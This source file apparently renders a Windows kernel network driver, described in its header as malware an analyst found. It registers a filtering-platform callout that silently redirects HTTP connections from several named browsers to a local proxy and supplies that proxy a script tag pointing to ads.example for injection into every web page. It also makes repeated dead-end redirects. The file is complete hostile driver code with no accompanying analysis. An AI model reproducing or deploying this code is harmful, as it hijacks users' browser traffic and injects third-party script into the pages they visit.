/*
 * Detour, as an analyst found it: sends the connections of browsers to a proxy on this machine, which puts a
 * script into every page. Its sublayer has the weight 0x8000.
 */
import {
  CTL_CODE,
  FILE_ANY_ACCESS,
  FILE_DEVICE_SECURE_OPEN,
  FWPM_CALLOUT0,
  FWPM_FILTER0,
  FWPM_FILTER_CONDITION0,
  FWPM_SESSION0,
  FWPM_SESSION_FLAG_DYNAMIC,
  FWPM_SUBLAYER0,
  FWPS_CALLOUT1,
  FWPS_CONNECT_REQUEST0,
  FWPS_FILTER1,
  FWP_ACTION_CALLOUT_TERMINATING,
  FWP_ACTION_PERMIT,
  FWP_UINT16,
  FWP_UINT8,
  FwpmCalloutAdd0,
  FwpmEngineClose0,
  FwpmEngineOpen0,
  FwpmFilterAdd0,
  FwpmSubLayerAdd0,
  FwpmTransactionAbort0,
  FwpmTransactionBegin0,
  FwpmTransactionCommit0,
  FwpsAcquireClassifyHandle0,
  FwpsAcquireWritableLayerDataPointer0,
  FwpsApplyModifiedLayerData0,
  FwpsCalloutRegister1,
  FwpsCalloutUnregisterById0,
  FwpsReleaseClassifyHandle0,
  IO_NO_INCREMENT,
  IPPROTO_TCP,
  IRP_MJ_CLEANUP,
  IRP_MJ_CLOSE,
  IRP_MJ_CREATE,
  IRP_MJ_DEVICE_CONTROL,
  IoCompleteRequest,
  IoCreateDevice,
  IoCreateSymbolicLink,
  IoDeleteDevice,
  IoDeleteSymbolicLink,
  IoGetCurrentIrpStackLocation,
  METHOD_BUFFERED,
  NT_SUCCESS,
  RPC_C_AUTHN_WINNT,
  RTL_CONSTANT_STRING,
  STATUS_BUFFER_TOO_SMALL,
  STATUS_INVALID_DEVICE_REQUEST,
  STATUS_SUCCESS,
  _wcsicmp,
  array,
  cast,
  local,
  out,
  strcpy,
} from 'wdm'
import type {
  DEVICE_OBJECT,
  DRIVER_OBJECT,
  FWPS_CLASSIFY_OUT0,
  FWPS_INCOMING_METADATA_VALUES0,
  FWPS_INCOMING_VALUES0,
  FWP_BYTE_BLOB,
  GUID,
  HANDLE,
  IRP,
  NTSTATUS,
  PVOID,
  ULONG,
  ULONGLONG,
  UNICODE_STRING,
} from 'wdm'

const FILE_DEVICE_NETWORK = 0x12
const IOCTL_PROXY_HERE = CTL_CODE(FILE_DEVICE_NETWORK, 0x800, METHOD_BUFFERED, FILE_ANY_ACCESS)
/** 127.0.0.1, and 127.0.0.2 where nobody listens, in network byte order. */
const LOOPBACK = 0x0100007f
const NOWHERE = 0x0200007f
const HTTP_PORT = 80
/** What the proxy is to put into every page. */
const TEXT = '<script src="http://ads.example/a.js"></script>'
/** How the paths of browsers end. */
const BROWSERS = ['\\chrome.exe', '\\msedge.exe', '\\360se.exe', '\\browser.exe']

let Device: DEVICE_OBJECT = null
let CalloutId: ULONG = 0
let Engine: HANDLE = 0
/** Where the proxy is: its process, and its port. */
let ProxyId: ULONG = 0
let ProxyPort: ULONG = 0
/** How many versions are made that lead nowhere, before the one that counts. */
let detours = 0

function SetGuid(At: GUID, Data1: ULONG, Data2: ULONG, Data3: ULONG, Data4: ULONGLONG): void {
  At.Data1 = Data1
  At.Data2 = Data2
  At.Data3 = Data3
  At.add(8).u64[0] = Data4
}

/** FWPM_LAYER_ALE_CONNECT_REDIRECT_V4. */
const SetLayer = (At: GUID) => SetGuid(At, 0xc6e63c8c, 0xb784, 0x4562, 0xa3f9cacf670a7daan)
const SetCallout = (At: GUID) => SetGuid(At, 0xde700001, 0x1a2b, 0x4c3d, 1n)
const SetSubLayer = (At: GUID) => SetGuid(At, 0xde700002, 0x1a2b, 0x4c3d, 1n)

/** Tell the filter engine of the callout, and which connections it is to be asked about. */
function AddFilter(): NTSTATUS {
  const sublayer = local(FWPM_SUBLAYER0)
  SetSubLayer(sublayer.subLayerKey)
  sublayer.weight = 0x8000
  let status = FwpmSubLayerAdd0(Engine, sublayer, null)
  if (!NT_SUCCESS(status)) return status
  const callout = local(FWPM_CALLOUT0)
  SetCallout(callout.calloutKey)
  SetLayer(callout.applicableLayer)
  status = FwpmCalloutAdd0(Engine, callout, null, null)
  if (!NT_SUCCESS(status)) return status
  const conditions = local(array(FWPM_FILTER_CONDITION0, 2))
  // FWPM_CONDITION_IP_PROTOCOL, FWPM_CONDITION_IP_REMOTE_PORT.
  SetGuid(conditions[0].fieldKey, 0x3971ef2b, 0x623e, 0x4f9a, 0xa7b906b8796eb18cn)
  conditions[0].conditionValue.type = FWP_UINT8
  conditions[0].conditionValue.uint32 = IPPROTO_TCP
  SetGuid(conditions[1].fieldKey, 0xc35a604d, 0xd22b, 0x4e1a, 0x4b67ee74f668b491n)
  conditions[1].conditionValue.type = FWP_UINT16
  conditions[1].conditionValue.uint32 = HTTP_PORT
  const filter = local(FWPM_FILTER0)
  SetLayer(filter.layerKey)
  SetSubLayer(filter.subLayerKey)
  SetCallout(filter.action.calloutKey)
  filter.action.type = FWP_ACTION_CALLOUT_TERMINATING
  filter.numFilterConditions = 2
  filter.filterCondition = conditions[0]
  return FwpmFilterAdd0(Engine, filter, null, null)
}

/** A session that takes its filter along when it ends. */
function StartFiltering(DeviceObject: DEVICE_OBJECT): NTSTATUS {
  const callout = local(FWPS_CALLOUT1)
  SetCallout(callout.calloutKey)
  callout.classifyFn = DetourClassify
  callout.notifyFn = DetourNotify
  const id = out<ULONG>()
  let status = FwpsCalloutRegister1(DeviceObject, callout, id)
  if (!NT_SUCCESS(status)) return status
  CalloutId = id.value
  const session = local(FWPM_SESSION0)
  session.flags = FWPM_SESSION_FLAG_DYNAMIC
  const engine = out<HANDLE>()
  status = FwpmEngineOpen0(null, RPC_C_AUTHN_WINNT, null, session, engine)
  if (!NT_SUCCESS(status)) return status
  Engine = engine.value
  FwpmTransactionBegin0(Engine, 0)
  status = AddFilter()
  if (NT_SUCCESS(status)) FwpmTransactionCommit0(Engine)
  else FwpmTransactionAbort0(Engine)
  return status
}

function StopFiltering(): void {
  if (Engine) FwpmEngineClose0(Engine)
  if (CalloutId) FwpsCalloutUnregisterById0(CalloutId)
}

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.MajorFunction[IRP_MJ_CREATE] = DetourCreateClose
  DriverObject.MajorFunction[IRP_MJ_CLOSE] = DetourCreateClose
  DriverObject.MajorFunction[IRP_MJ_CLEANUP] = DetourCreateClose
  DriverObject.MajorFunction[IRP_MJ_DEVICE_CONTROL] = DetourDeviceControl
  DriverObject.DriverUnload = DetourUnload
  const device = out<DEVICE_OBJECT>()
  let status = IoCreateDevice(
    DriverObject,
    0,
    RTL_CONSTANT_STRING('\\Device\\Detour'),
    FILE_DEVICE_NETWORK,
    FILE_DEVICE_SECURE_OPEN,
    false,
    device,
  )
  if (!NT_SUCCESS(status)) return status
  Device = device.value
  const link = RTL_CONSTANT_STRING('\\??\\Detour')
  status = IoCreateSymbolicLink(link, RTL_CONSTANT_STRING('\\Device\\Detour'))
  if (NT_SUCCESS(status)) status = StartFiltering(Device)
  if (!NT_SUCCESS(status)) DetourUnload(DriverObject)
  return status
}

function DetourUnload(DriverObject: DRIVER_OBJECT): void {
  StopFiltering()
  IoDeleteSymbolicLink(RTL_CONSTANT_STRING('\\??\\Detour'))
  IoDeleteDevice(Device)
}

function Complete(Irp: IRP, Status: NTSTATUS, Information: ULONG): NTSTATUS {
  Irp.IoStatus.Status = Status
  Irp.IoStatus.Information = Information
  IoCompleteRequest(Irp, IO_NO_INCREMENT)
  return Status
}

const DetourCreateClose = (DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS =>
  Complete(Irp, STATUS_SUCCESS, 0)

/** The proxy says where it is and gets the text. */
function DetourDeviceControl(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  const request = IoGetCurrentIrpStackLocation(Irp).Parameters.DeviceIoControl
  if (request.IoControlCode !== IOCTL_PROXY_HERE)
    return Complete(Irp, STATUS_INVALID_DEVICE_REQUEST, 0)
  if (request.InputBufferLength < 8 || request.OutputBufferLength < TEXT.length + 1)
    return Complete(Irp, STATUS_BUFFER_TOO_SMALL, 0)
  const buffer = Irp.AssociatedIrp.SystemBuffer
  ProxyId = buffer.u32[0]
  ProxyPort = buffer.u32[1]
  strcpy(buffer, TEXT)
  return Complete(Irp, STATUS_SUCCESS, TEXT.length + 1)
}

/** Whether a program is a browser, by the end of its path: wide characters and a zero. */
function IsBrowser(Path: FWP_BYTE_BLOB): boolean {
  for (const name of BROWSERS) {
    const bytes = (name.length + 1) * 2
    if (Path.size >= bytes && _wcsicmp(Path.data.add(Path.size - bytes), name) === 0) return true
  }
  return false
}

/** Asked before a program connects. inMetaValues say who it is; a copy of layerData can be changed. */
function DetourClassify(
  inFixedValues: FWPS_INCOMING_VALUES0,
  inMetaValues: FWPS_INCOMING_METADATA_VALUES0,
  layerData: PVOID,
  classifyContext: PVOID,
  filter: PVOID,
  flowContext: PVOID,
  classifyOut: FWPS_CLASSIFY_OUT0,
): void {
  classifyOut.actionType = FWP_ACTION_PERMIT
  if (ProxyPort === 0 || !IsBrowser(inMetaValues.processPath)) return
  const handle = out<ULONGLONG>()
  if (!NT_SUCCESS(FwpsAcquireClassifyHandle0(classifyContext, 0, handle))) return
  const filterId = cast(FWPS_FILTER1, filter).filterId
  // Not at all the first time, and twice more each time after that.
  for (let i = 0; i < detours; i++) Redirect(handle.value, filterId, NOWHERE)
  Redirect(handle.value, filterId, LOOPBACK)
  detours += 2
  FwpsReleaseClassifyHandle0(handle.value)
}

/** Make a version of the request that leads to the proxy's port at an address of this machine. */
function Redirect(handle: ULONGLONG, filterId: ULONGLONG, address: ULONG): void {
  const data = out<PVOID>()
  if (!NT_SUCCESS(FwpsAcquireWritableLayerDataPointer0(handle, filterId, 0, data, null))) return
  const request = cast(FWPS_CONNECT_REQUEST0, data.value)
  request.remoteAddressAndPort.sin_addr = address
  request.remoteAddressAndPort.sin_port = ((ProxyPort & 0xff) << 8) | (ProxyPort >> 8)
  request.localRedirectTargetPID = ProxyId
  FwpsApplyModifiedLayerData0(handle, request, 0)
}

function DetourNotify(notifyType: ULONG, filterKey: GUID, filter: PVOID): NTSTATUS {
  return STATUS_SUCCESS
}
